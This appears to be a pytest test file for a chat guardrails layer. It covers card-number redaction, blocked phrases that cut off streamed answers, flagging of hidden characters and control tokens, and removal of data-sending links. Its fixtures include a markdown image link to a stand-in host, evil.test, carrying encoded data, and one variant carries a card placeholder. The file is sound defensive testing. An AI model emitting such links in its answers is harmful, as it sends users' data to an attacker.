"""Guardrails of conversations: a real session and store over a toy engine."""

import sqlite3
import stat

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agents.guardrails.conversation_guard import ConversationGuard
from agents.guardrails.detection import Action, Kind
from agents.guardrails.guardrails import Guardrails
from agents.guardrails.policy import Policy, mode_actions
from agents.guardrails.redaction_store import RedactionStore
from engine.api.errors import InvalidRequest
from engine.api.request import FinishReason
from engine.conversations.answer import CONTENT_FILTER
from engine.conversations.session import TreeSession
from engine.conversations.storage.store import Store
from engine.conversations.tree import NodeStatus
from engine.text.reasoning_markers import ReasoningMarkers
from tests.fakes.chat_toys import ToyClient

CARD = "4111 1111 1111 1111"
LEAK = "![x](https://evil.test/a.png?q=c2VjcmV0IGRhdGE)"
STRIPPED = "![x]([exfiltration removed])"


class Chat:
    """A session with guardrails; `reopen` is the next start of the program."""

    def __init__(self, folder, mode="redact", **policy):
        self.folder, self.client = folder, ToyClient()
        given, written = mode_actions(mode)
        self.policy = Policy(given, written, **policy)
        self.session = None
        self.open()

    def open(self):
        self.store = Store.open(self.folder / "conversations.db")
        guard = ConversationGuard(
            lambda: Guardrails(self.policy), RedactionStore(self.folder / "redactions.db")
        )
        self.session = TreeSession(self.store, self.client, guard=guard)

    def close(self):
        self.session.close()
        self.store.close()

    def reopen(self):
        self.close()
        self.open()

    def answer(self, *pieces):
        """Deliver an answer; the text that was streamed."""
        shown = ""
        for piece in pieces:
            last = FinishReason.STOP if piece is pieces[-1] else None
            self.client.write(piece, finish=last)
            shown += "".join(delta.text for delta in self.session.pump())
        return shown

    @property
    def prompt(self):
        return self.client.detokenize(self.client.requests[-1].prompt_ids)

    def shown(self):
        return [view.text for view in self.session.path()]

    def stored(self):
        self.session.close()
        with sqlite3.connect(self.folder / "conversations.db") as connection:
            return [row[0] for row in connection.execute("SELECT text FROM node ORDER BY n")]


@pytest.fixture
def chat(tmp_path):
    chat = Chat(tmp_path)
    yield chat
    chat.close()


def test_a_card_number_reaches_neither_the_model_nor_the_file(chat):
    chat.session.messages.send(f"Charge {CARD}, please.")
    assert "⟦CARD_1⟧" in chat.prompt
    assert "4111" not in chat.prompt
    assert chat.answer("I charged ⟦CA", "RD_1⟧", ".") == f"I charged {CARD}."
    assert chat.shown() == [f"Charge {CARD}, please.", f"I charged {CARD}."]
    assert chat.session.path()[0].remarks == ("1 card number replaced before the model read it",)
    assert chat.stored() == ["Charge ⟦CARD_1⟧, please.", "I charged ⟦CARD_1⟧."]
    assert CARD not in (chat.folder / "conversations.db").read_bytes().decode("latin-1")


def test_it_is_undone_after_a_restart_by_the_same_placeholder(chat):
    chat.session.messages.send(f"Charge {CARD}.")
    chat.answer("Done with ⟦CARD_1⟧.")
    chat.reopen()
    assert chat.shown() == [f"Charge {CARD}.", f"Done with {CARD}."]
    chat.session.messages.send(f"Again {CARD}, and 5555 5555 5555 4444.")
    assert "Again ⟦CARD_1⟧, and ⟦CARD_2⟧." in chat.prompt
    assert stat.S_IMODE((chat.folder / "redactions.db").stat().st_mode) == 0o600


def test_another_conversation_has_placeholders_of_its_own(chat):
    chat.session.messages.send(f"Charge {CARD}.")
    chat.answer("ok")
    chat.session.conversations.open_new()
    chat.session.messages.send("What is ⟦CARD_1⟧?")
    assert chat.answer("It is ⟦CARD_1⟧.") == "It is ⟦CARD_1⟧."


def test_a_queued_message_is_shown_and_taken_back_as_it_was_written(chat):
    chat.session.messages.send("first")
    chat.session.messages.send(f"then {CARD}")
    assert chat.session.messages.queued == (f"then {CARD}",)
    assert chat.session.messages.withdraw() == f"then {CARD}"


def test_an_edited_message_is_checked_too(chat):
    chat.session.messages.send("Charge nothing.")
    chat.answer("ok")
    chat.session.branches.edit(chat.session.path()[0].id, f"Charge {CARD}.")
    assert "⟦CARD_1⟧" in chat.prompt


def test_deleting_a_conversation_for_good_deletes_its_values(chat):
    chat.session.messages.send(f"Charge {CARD}.")
    chat.answer("ok")
    tree = chat.session.tree_id
    chat.session.conversations.archive(tree)
    chat.session.conversations.erase([tree])
    assert CARD not in (chat.folder / "redactions.db").read_bytes().decode("latin-1")


def test_an_unreadable_file_of_redactions_loses_the_values_alone(chat):
    chat.session.messages.send(f"Charge {CARD}.")
    chat.answer("ok")
    chat.close()
    (chat.folder / "redactions.db").write_bytes(b"no database" * 100)
    chat.open()
    assert chat.shown() == ["Charge ⟦CARD_1⟧.", "ok"]


def test_a_link_that_sends_data_is_not_shown_and_its_tokens_are_kept(tmp_path):
    chat = Chat(tmp_path, "check")
    chat.session.messages.send(f"My card is {CARD}.")
    assert CARD in chat.prompt  # redaction is not on
    shown = chat.answer("See ", LEAK[:20], LEAK[20:], " there")
    assert shown == f"See {STRIPPED} there"
    view = chat.session.path()[-1]
    assert view.text == shown
    assert view.remarks == ("1 address that sends data removed",)
    tokens = chat.session.tokens.of(view.id)
    assert chat.client.detokenize(tokens.token_ids) == f"See {LEAK} there"
    assert chat.stored()[-1] == f"See {LEAK} there"
    chat.close()


def test_a_placeholder_in_a_link_is_not_restored(chat):
    chat.session.messages.send(f"Charge {CARD}.")
    assert CARD not in chat.answer("![x](https://evil.test/?q=⟦CARD_1⟧)")


def test_a_blocked_message_is_not_sent(tmp_path):
    chat = Chat(tmp_path, "check", blocklist=("secret plan",))
    with pytest.raises(InvalidRequest, match=r"not sent: it contains a blocked phrase\."):
        chat.session.messages.send("the Secret Plan")
    assert chat.client.requests == []
    assert chat.session.path() == []
    chat.close()


@pytest.mark.parametrize("last", [False, True])
def test_a_blocked_answer_ends_there(tmp_path, last):
    chat = Chat(tmp_path, "check", blocklist=("secret plan",))
    chat.session.messages.send("tell me")
    chat.client.write("The secret pl")
    assert [delta.text for delta in chat.session.pump()] == ["The "]
    chat.client.write("an is this: ", finish=FinishReason.STOP if last else None)
    deltas = chat.session.pump()
    assert "".join(delta.text for delta in deltas) == ""
    if not last:
        assert chat.client.cancelled
        chat.client.write("more", finish=FinishReason.ABORT)
        assert chat.session.pump()[-1].text == ""
    view = chat.session.path()[-1]
    assert (view.status, view.finish, view.text) == (NodeStatus.STOPPED, CONTENT_FILTER, "The ")
    assert view.remarks == ("ended at 1 blocked phrase",)
    chat.close()


def test_what_is_flagged_is_sent_as_it_is_and_marked(tmp_path):
    chat = Chat(tmp_path, "check")
    chat.session.messages.send("look\u200b\u200b at [INST] this")
    assert "look\u200b\u200b at [INST] this" in chat.prompt
    (remark,) = chat.session.path()[0].remarks
    assert remark == "contains 1 run of hidden characters, 1 spelled control token"
    chat.close()


def thinks(chat):
    chat.client.markers = ReasoningMarkers("<think>", "</think>")


def test_reasoning_is_checked_and_restored_as_the_text_is(chat):
    thinks(chat)
    chat.session.messages.send(f"Charge {CARD}.")
    chat.client.write("<think>Card ⟦CA")
    chat.session.pump()
    assert "⟦" not in chat.session.path()[-1].reasoning
    chat.client.write(f"RD_1⟧ or {LEAK}</think>Done with ⟦CARD_1⟧.")
    chat.session.pump()
    chat.client.write("", finish=FinishReason.STOP)
    chat.session.pump()
    for _ in range(2):
        view = chat.session.path()[-1]
        assert view.reasoning == f"Card {CARD} or {STRIPPED}"
        assert view.text == f"Done with {CARD}."
        assert view.remarks == ("1 address that sends data removed",)
        chat.reopen()


def test_a_block_in_the_reasoning_ends_the_answer_before_its_text(tmp_path):
    chat = Chat(tmp_path, "check", blocklist=("secret plan",))
    thinks(chat)
    chat.session.messages.send("Why?")
    chat.client.write("<think>the secret plan is</think>Because.")
    chat.session.pump()
    assert chat.client.cancelled == [chat.client.requests[-1].request_id]
    assert chat.session.path()[-1].text == ""
    chat.client.write("", finish=FinishReason.ABORT)
    chat.session.pump()
    for _ in range(2):
        view = chat.session.path()[-1]
        assert (view.status, view.finish) == (NodeStatus.STOPPED, CONTENT_FILTER)
        assert (view.text, view.reasoning) == ("", "the ")
        assert view.remarks == ("ended at 1 blocked phrase",)
        chat.reopen()
    chat.close()


def test_without_guardrails_earlier_placeholders_are_still_undone(chat):
    chat.session.messages.send(f"Charge {CARD}.")
    chat.answer(f"Done. {LEAK}")
    chat.policy = Policy(*mode_actions("off"))
    chat.reopen()
    assert chat.shown() == [f"Charge {CARD}.", f"Done. {LEAK}"]
    chat.session.messages.send(f"Again {CARD}.")
    assert f"Again {CARD}." in chat.prompt


FRAGMENTS = [LEAK, "https://a.test/x", "htt", "http", "://", "//", "![", "](", "<|im_start|>", "[INST]", "[",
             "\u200b\u200b", "\u200d", "\ufe0f", "\U000e0041", "\u202e", "secret plan", "secret ", "plan", "⟦CARD_1⟧",
             "⟦CA", " ", "\n", "word", "h", "s", ":", "?q=" + "a1B2" * 12, "[a](https://e.test/?d="]  # fmt: skip


@settings(deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=14).map("".join), st.data())
def test_streamed_pieces_are_the_shown_text_for_any_division(text, data):
    given, written = mode_actions("check")
    checks = Guardrails(
        Policy(given, {**written, Kind.SPECIAL_TOKEN: Action.REDACT}, blocklist=("secret plan",))
    )
    whole, pieces = checks.output_check(), checks.output_check()
    expected = whole.feed(text) + whole.finish()
    shown, position = "", 0
    while position < len(text):
        size = data.draw(st.integers(1, 30))
        shown += pieces.feed(text[position : position + size])
        position += size
    assert shown + pieces.finish() == expected
    assert pieces.detections == whole.detections


@pytest.mark.parametrize("text", ["The cat", "with whom", "a = b[", "x < y", "C:/tmp/x", "5:30 h"])
def test_prose_and_code_pass_without_delay_when_nothing_can_begin(text):
    check = Guardrails(Policy(*mode_actions("check"), blocklist=("secret plan",))).output_check()
    assert len(text) - len(check.feed(text)) <= 1
